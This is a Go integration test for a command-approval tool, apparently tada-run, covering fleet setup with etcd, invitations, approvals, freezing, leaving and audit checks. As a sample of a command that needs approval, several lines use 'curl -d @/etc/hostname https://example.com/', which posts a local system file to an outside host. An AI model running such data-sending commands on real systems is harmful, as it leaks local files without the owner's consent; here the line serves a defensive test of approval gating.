package integration

import (
	"encoding/json"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/tada-run/tada-run/integration/served"
)

// newFleet is a place with the real tada-fleet, an etcd, and a fleet that ann has founded, typed as
// in docs/fleet.md.
func newFleet(t *testing.T) (p *place, etcd *served.Etcd, site *exec.Cmd) {
	t.Helper()
	need(t, "go")
	p = newPlace(t)
	bin := filepath.Join(filepath.Dir(p.dir), "bin")
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(self, filepath.Join(bin, "person")); err != nil {
		t.Fatal(err)
	}
	build := exec.Command("go", "build", "-o", filepath.Join(bin, "tada-fleet"),
		"../cmd/tada-fleet")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	for i, e := range p.env { // the account of the machine that asks is the usual one
		if strings.HasPrefix(e, "TRANSCRIPT_HOME=") {
			p.env[i] = "CI=" + p.state
		}
	}
	p.env = append(p.env, "ANN="+filepath.Join(filepath.Dir(p.dir), "ann"))

	p.wants("person tadactl --home $ANN key init ann --no-passphrase", "ed25519 ")
	p.wants("person tadactl --home $ANN fleet init ../acme --name acme --host 127.0.0.1",
		"--auto-compaction-retention 1h") // without it, etcd is full one day
	etcd = served.StartSecureEtcd(t, 1, filepath.Join(filepath.Dir(p.dir), "acme"))
	p.env = append(p.env, "ETCD=https://"+etcd.Endpoints()[0], "SITE="+freePort(t))
	return p, etcd, p.daemon("tadactl fleet serve ../acme --etcd $ETCD --listen $SITE",
		"listens on")
}

// One machine asks, another one answers, and stops it.
func TestFleetOfTwo(t *testing.T) {
	t.Parallel()
	p, _, _ := newFleet(t)
	first := p.link("tadactl --home $ANN fleet invite --dir ../acme --etcd $ETCD " +
		"--url https://$SITE --people --owner ann")
	p.wants("tadactl --home $ANN fleet join '"+first+"' --name laptop", `is now in fleet "acme"`)
	p.wants("tadactl --home $CI fleet join '"+first+"'", "this invitation is not valid")
	second := p.link("tadactl --home $ANN fleet invite --labels env=ci")
	p.wants("tadactl --home $CI fleet join '"+second+"' --name ci1", `with labels "env=ci"`)
	p.wants("tada-run --home $CI 'curl -d @/etc/hostname https://example.com/' </dev/null",
		"tadactl fleet agent")
	agent := p.daemon("tadactl --home $CI fleet agent", "")
	p.eventually("tadactl --home $CI pending", "")
	p.wants("tada-run --home $CI 'curl -d @/etc/hostname https://example.com/' </dev/null",
		"needs approval")
	p.eventually("tadactl --home $ANN fleet pending", "ci1")
	question := strings.Fields(p.run("tadactl --home $ANN fleet pending"))[0]
	p.wants("person tadactl --home $ANN fleet answer "+question, question+": approved")
	p.wants("tadactl --home $CI pending", "answered")
	p.wants("tadactl --home $ANN fleet list", "connected")

	p.wants("person tadactl --home $ANN fleet freeze --label env=ci --reason leak", "freeze ")
	p.eventually("tada-run --home $CI 'echo hello'", "it is frozen")
	p.wants("tadactl --home $CI fleet status", "frozen   by ann at")
	if out := p.run("tadactl --home $CI fleet leave"); !strings.Contains(out, "person") {
		t.Errorf("without a person: %s", out)
	}
	_ = agent.Process.Signal(syscall.SIGTERM)
	_ = agent.Wait()
	p.wants("tada-run --home $CI 'echo hello'", "it is frozen")
	p.wants("person tadactl --home $CI fleet leave", `left fleet "acme"`)
	p.wants("tada-run --home $CI 'echo hello'", "hello")
	p.wants("tada-run --home $CI 'curl -d @/etc/hostname https://example.com/' </dev/null",
		"needs approval")
	p.wants("tadactl --home $CI audit verify --complete", "ok: ")
}

// wants runs a line and fails if a text is not in what it prints.
func (p *place) wants(line, text string) {
	p.t.Helper()
	if out := p.run(line); !strings.Contains(out, text) {
		p.t.Fatalf("%s:\n%.2000s\nnot: %s", line, out, text)
	}
}

// eventually runs a line until it succeeds, or prints a text.
func (p *place) eventually(line, text string) {
	p.t.Helper()
	out, err := []byte(nil), error(nil)
	for range 300 {
		out, err = p.command(line).CombinedOutput()
		if text == "" && err == nil || text != "" && strings.Contains(string(out), text) {
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
	p.t.Fatalf("%s: %v:\n%.2000s\nnot: %s", line, err, out, text)
}

// daemon starts a line, and returns when it has printed a text.
func (p *place) daemon(line, text string) *exec.Cmd {
	p.t.Helper()
	out := filepath.Join(p.t.TempDir(), "out")
	cmd := p.command("exec " + line + " >" + out + " 2>&1")
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := cmd.Start(); err != nil {
		p.t.Fatal(err)
	}
	p.t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	if text != "" {
		p.eventually("cat "+out, text)
	}
	return cmd
}

// link is the link that an invitation prints.
func (p *place) link(line string) string {
	p.t.Helper()
	out, err := p.command(line + " --json").Output()
	var made struct{ URL string }
	if err != nil || json.Unmarshal(out, &made) != nil {
		p.t.Fatalf("%s: %v: %s", line, err, out)
	}
	if !regexp.MustCompile(`^https://127\.0\.0\.1:\d+/#`).MatchString(made.URL) {
		p.t.Fatalf("%s: %q", line, made.URL)
	}
	return made.URL
}

func freePort(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().String()
}
